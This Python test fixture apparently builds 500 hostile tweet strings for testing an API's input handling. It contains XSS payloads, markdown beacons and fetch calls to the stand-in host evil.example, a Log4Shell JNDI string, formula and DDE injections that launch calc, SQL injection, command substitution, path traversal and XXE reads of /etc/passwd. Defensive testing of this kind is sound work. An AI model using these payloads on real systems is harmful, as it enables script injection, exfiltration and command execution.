"""Five hundred tweets that nobody means well with: markup, formulas, signs that hide or reorder, templates, injections.

Each is another text, is a legal tweet for the API (no NUL, not blank, at most 1,000 characters), and tries to reach one
host, which no test may see asked for.
"""

from itertools import product

HOST = "evil.example"
COUNT = 500

HTML = [
    f"<script>fetch('//{HOST}/1')</script>",
    f"<script src=https://{HOST}/x.js></script>",
    "<script>alert(document.cookie)</script>",
    "</textarea><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    f"<img src=https://{HOST}/a.png>",
    "<img src=x onerror=alert(1)>",
    f"<iframe src=https://{HOST}></iframe>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}'>",
    f"<base href=https://{HOST}/>",
    f"<object data=https://{HOST}/x></object>",
    f"<video poster=https://{HOST}/p.png autoplay></video>",
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f'<div style="background:url(https://{HOST}/b.png)">x</div>',
    f"<form action=https://{HOST}><button>Send</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<a href=javascript:alert(1)>late</a>",
    f"<a href=https://{HOST} target=_blank>late</a>",
    "<b>bold</b><marquee>late</marquee>",
]
MARKDOWN = [
    f"![late](https://{HOST}/beacon.png)",
    f"[![late](https://{HOST}/i.png)](https://{HOST})",
    f"[late](https://{HOST})",
    "[late](javascript:alert(1))",
    f"[late][1]\n\n[1]: https://{HOST}",
    f"<https://{HOST}>",
    f"https://{HOST}/auto",
    f"www.{HOST}",
    f"![late][b]\n\n[b]: https://{HOST}/r.png 'title'",
    "# Heading late",
    "| a | b |\n|---|---|\n| late | 1 |",
    "```html\n<script>alert(1)</script>\n```",
    "- [ ] a task\n- [x] late",
    "> quoted\n> late",
    "***late*** ~~late~~ `late`",
    ":red[late] :blue-background[late] :rainbow[late]",
    ":material/delete: :smile: :shortcode:",
    "$\\frac{1}{2}$ and $$\\href{javascript:alert(1)}{late}$$",
    f"$\\includegraphics{{https://{HOST}/l.png}}$",
    "-> <- -- >= <= late",
    "---\nlate\n===",
    "[^1] late\n\n[^1]: footnote",
    f":small[![x](https://{HOST}/s.png)]",
    "\\<b\\>late\\</b\\> \\$5\\$",
]
FORMULAS = [
    f'HYPERLINK("https://{HOST}","late")',
    f'IMPORTXML("https://{HOST}","//a")',
    f'WEBSERVICE("https://{HOST}")',
    f'IMAGE("https://{HOST}/x.png")',
    "cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "1+1",
    "SUM(A1:A9)*late",
]
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\u200b=", "'=", '"=', "\ufeff="]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% print(7*7) %}",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "{0.__class__.__init__.__globals__}",
    "{label}",
    "{count:,}",
    "{}",
    "{{}}",
    "}{",
    "%(label)s %s %d %n",
    "$(whoami)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "@{7*7} *{7*7} ~{7*7}",
]
INJECTIONS = [
    "'; DROP TABLE feedback; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(9); --",
    "late\r\nSet-Cookie: x=1",
    'late\nlevel=ERROR msg="forged"',
    "../../../../etc/passwd",
    "C:\\late\\..\\x",
    '{"label": "positive"}',
    '","label":"positive","x":"',
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\\u0000 \\x00 %00",
    "\\ud800 \\n \\\\",
    'late, "quoted", late',
    "late;late\tlate|late",
    "null",
    "None",
    "NaN",
    "true",
    "-1",
    "1e309",
    "0x1F",
    "1/0",
    "١٢٣",
]
HIDING = [
    *(chr(code) for code in (*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070))),
    *"\ufeff\u061c\u00ad\u034f\u180e\u115f\u3164\uffa0\ufff9\ufffa\ufffb\ufffc\ufffd\u2028\u2029\ufe0f\ue000",
    *"\U000e0001\U000e0041\U000e007f\U000f0000\U0001d173",
]
CONTROLS = [chr(code) for code in (*range(0x01, 0x20), *range(0x7F, 0xA0))]
SCRIPTS = [
    "متأخر جدا late",
    "מאוחר מאוד late",
    "遅れた飛行機 late",
    "z̷̢̛a̸̧͝l̵̨͠g̶̢͘o̴̧͌ late",
    "👩‍👩‍👧‍👦✈️🏳️‍🌈 late",
    "e\u0301 is not \u00e9",
    "ﬁ ligature ℌ Å late",
    "аdmin (Cyrillic a) late",
    "𝓵𝓪𝓽𝓮 𝕝𝕒𝕥𝕖",
    "w" * 400,
    "late " * 150,
    "\U0001f1eb\U0001f1f7" * 60,
]


def hostile_texts() -> list[str]:
    """The first COUNT of them, each once."""
    hidden = [f"late \u202epay{sign}ment\u202c {number}" for number, sign in enumerate(HIDING)]
    controlled = [f"late{sign}again {number}" for number, sign in enumerate(CONTROLS)]
    formulas = [start + body for start, body in product(STARTS, FORMULAS)]
    plain = [*HTML, *MARKDOWN, *TEMPLATES, *INJECTIONS, *SCRIPTS, *formulas, *hidden, *controlled]
    # A word before it, for what only works inside a sentence.
    bare = (*HTML, *MARKDOWN, *TEMPLATES, *INJECTIONS)
    inside = [frame.format(text=text) for frame in ("late again {text} so", 'RT @late: "{text}"') for text in bare]
    texts = list(dict.fromkeys((*plain, *inside)))
    assert len(texts) >= COUNT, len(texts)
    return texts[:COUNT]
